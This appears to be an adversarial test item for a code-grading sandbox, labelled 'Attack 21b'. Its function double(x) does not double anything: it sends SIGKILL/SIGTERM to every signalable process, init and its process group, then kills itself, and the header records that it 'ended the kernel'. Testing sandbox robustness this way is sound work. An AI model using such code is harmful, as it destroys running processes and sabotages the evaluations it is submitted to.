# Attack 21b: A signal to every process that one may signal.
# points: double 0, half 1
# reads: ended the kernel

# %% double-answer
import os
import signal


def double(x):
    for pid in (-1, 1, 0):
        try:
            os.kill(pid, signal.SIGKILL if pid else signal.SIGTERM)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
